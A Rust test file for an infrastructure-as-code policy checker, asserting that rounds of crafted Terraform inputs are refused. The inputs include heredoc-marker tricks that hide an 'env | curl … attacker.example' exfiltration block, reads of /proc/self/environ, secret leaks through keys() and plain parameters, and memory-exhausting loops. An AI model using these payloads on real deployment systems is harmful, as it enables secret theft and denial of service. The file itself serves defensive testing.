//! A twenty-fourth round of attacks. On the worker: a heredoc marker of a
//! non-ASCII letter (`éOT`, a Greek `ΕOT`) that the heredoc check did not
//! take for a marker hid blocks once more; a `for` variable named `var`
//! made `var.bundle_path` a file of the worker's; and three nested `for`s
//! over `range(1024)`, or `format("%0999999d")`, ran the worker out of
//! memory during the plan. And the secrets: a value computed inside an
//! object and taken back out (`({ m = … }).m`) was taken for a reference
//! passed on, `keys()` of `local.X.attr` for names because `local.X`'s own
//! keys were, and a plain `String` parameter held every secret in clear.

use super::*;

#[test]
fn the_twenty_fourth_round_of_attacks_on_the_worker_is_refused() {
    let vm = vm_policy();
    let hidden = "  motd = <<EOF\néOT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
    assert_each_refused(vec![
        (
            "a heredoc marker of a non-ASCII letter",
            format!("locals {{\n  banner = <<éOT\ndeployflow\néOT # closes the banner\n{hidden}"),
            &[Rule::Character],
            &vm,
        ),
        (
            "a for variable named var, reading a file",
            "resource \"aws_ssm_parameter\" \"loot\" {\n  name  = \"/deployflow/x/env/LOOT\"\n  type  = \"SecureString\"\n  value = jsonencode([for var in [{ bundle_path = \"/proc/self/environ\" }] : filebase64(var.bundle_path)])\n}\n".to_owned(),
            &[Rule::Character, Rule::LocalFile],
            &vm,
        ),
        (
            "three nested fors over range(1024)",
            "locals {\n  big = length(flatten([for a in range(1024) : [for b in range(1024) : [for c in range(1024) : \"${a}${b}${c}\"]]]))\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &vm,
        ),
        (
            "a format verb a million wide",
            "locals {\n  wide = [for a in [1, 2] : format(\"%0999999d\", a)]\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &vm,
        ),
    ]);
}

#[test]
fn the_twenty_fourth_round_of_attacks_on_the_secrets_is_refused() {
    let vm = vm_policy();
    assert_each_refused(vec![
        (
            "values made keys inside an object taken back out, printed through keys()",
            "locals {\n  env_views = { by_pair = ({ m = { for k, v in var.app_env : \"${k}=${v}\" => k } }).m }\n  env_index = local.env_views.by_pair\n}\n\noutput \"env\" {\n  value = nonsensitive(toset(keys(local.env_index)))\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a function of a secret inside an object taken back out",
            "locals {\n  leak = ({ m = base64encode(values(var.app_env)[0]) }).m\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "every secret in a plain String parameter",
            "resource \"aws_ssm_parameter\" \"copy\" {\n  name  = \"/deployflow/x/env/COPY\"\n  type  = \"String\"\n  value = jsonencode(var.app_env)\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
    ]);
}

/// A twenty-seventh round: a heredoc marker of an identifier character
/// Rust does not call alphabetic (`℘OT`) slipped past the marker rules, and
/// `for`s chained through locals, each within the bound, multiplied to
/// billions of values.
#[test]
fn the_twenty_seventh_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let hidden = "  motd = <<EOF\n℘OT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
    assert_each_refused(vec![
        (
            "a heredoc marker Rust does not call alphabetic",
            format!("locals {{\n  banner = <<℘OT\ndeployflow\n℘OT # closes the banner\n{hidden}"),
            &[Rule::Character],
            &vm,
        ),
        (
            "fors chained through locals",
            "locals {\n  grid = flatten([for a in range(256) : [for b in range(256) : \"${a}-${b}\"]])\n  cube = length(flatten([for c in local.grid : [for d in range(256) : \"${c}${d}\"]]))\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &vm,
        ),
    ]);
}

/// A twenty-eighth round: values that grow without a `for`, by
/// `replace()` of a text with itself, chained, and a carriage return alone
/// ending a heredoc line for one parser only.
#[test]
fn the_twenty_eighth_round_of_attacks_is_refused() {
    let vm = vm_policy();
    assert_each_refused(vec![
        (
            "replace() of a text with itself, chained",
            "locals {\n  s0 = \"aaaaaaaaaa\"\n  s1 = replace(local.s0, \"a\", local.s0)\n  s2 = replace(local.s1, \"a\", local.s1)\n  s3 = replace(local.s2, \"a\", local.s2)\n  s4 = replace(local.s3, \"a\", local.s3)\n  s5 = replace(local.s4, \"a\", local.s4)\n}\n".to_owned(),
            &[Rule::SizeNotBounded],
            &vm,
        ),
        (
            "ten locals each reading the one before ten times, used as a name",
            copies_of_copies(),
            &[Rule::SizeNotBounded],
            &vm,
        ),
        (
            "a carriage return alone before a heredoc's marker",
            "locals {\n  banner = <<EOT\nx\n\rEOT\n}\n".to_owned(),
            &[Rule::Character],
            &vm,
        ),
    ]);
}

/// `l1` reads `l0` ten times, `l2` reads `l1` ten times, … : written out,
/// `l9` is ten billion references, and a check that follows locals one
/// reference at a time would not finish.
fn copies_of_copies() -> String {
    let mut locals = String::from("locals {\n  l0 = \"a\"\n");
    for level in 1..10 {
        let previous = format!("${{local.l{}}}", level - 1);
        locals.push_str(&format!("  l{level} = \"{}\"\n", previous.repeat(10)));
    }
    locals.push_str("}\n\nresource \"aws_ssm_parameter\" \"named\" {\n  name  = \"/deployflow/x/env/${local.l9}\"\n  type  = \"SecureString\"\n  value = local.l9\n}\n");
    locals
}

/// Bounded forms of the same pass: a small range, two nested fors, a
/// narrow format, a for variable of its own name.
#[test]
fn bounded_evaluation_passes() {
    let vm = vm_policy();
    assert_passes(
        "locals {\n  pairs = flatten([for a in range(3) : [for b in [\"x\", \"y\"] : format(\"%02d-%s\", a, b)]])\n}\n",
        &vm,
    );
}

/// A twenty-fifth round: a container's secret named by the account's own
/// name for it (`/prod/db/password`) was read into the app's environment
/// at start; and paths of the worker (`abspath(path.cwd)`,
/// `pathexpand("~")`) were saved with the job as outputs.
#[test]
fn the_twenty_fifth_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let container_service = Policy::for_choice(&choice(Target::ContainerService));
    let task = |value_from: &str| {
        format!(
            "resource \"aws_ecs_task_definition\" \"x\" {{\n  family                = \"x\"\n  container_definitions = jsonencode([{{ name = \"app\", image = \"${{aws_ecr_repository.app.repository_url}}:1\", secrets = [{{ name = \"DB\", valueFrom = {value_from} }}] }}])\n}}\n"
        )
    };
    let own = check_with(
        &task("aws_ssm_parameter.env[\"DB\"].arn"),
        &container_service,
    );
    let foreign = check_with(&task("\"/prod/db/password\""), &container_service);
    let added: Vec<&infra::policy::Violation> = foreign
        .violations
        .iter()
        .filter(|v| {
            !own.violations
                .iter()
                .any(|o| o.to_string() == v.to_string())
        })
        .collect();
    assert_eq!(added.len(), 1, "{added:#?}");
    assert_eq!(added[0].rule, Rule::ForeignResource);
    assert!(added[0].message.contains("valueFrom"), "{added:#?}");

    assert_each_refused(vec![(
        "the worker's paths as an output",
        "output \"where\" {\n  value = [abspath(path.cwd), pathexpand(\"~\")]\n}\n".to_owned(),
        &[Rule::LocalFile],
        &vm,
    )]);
}
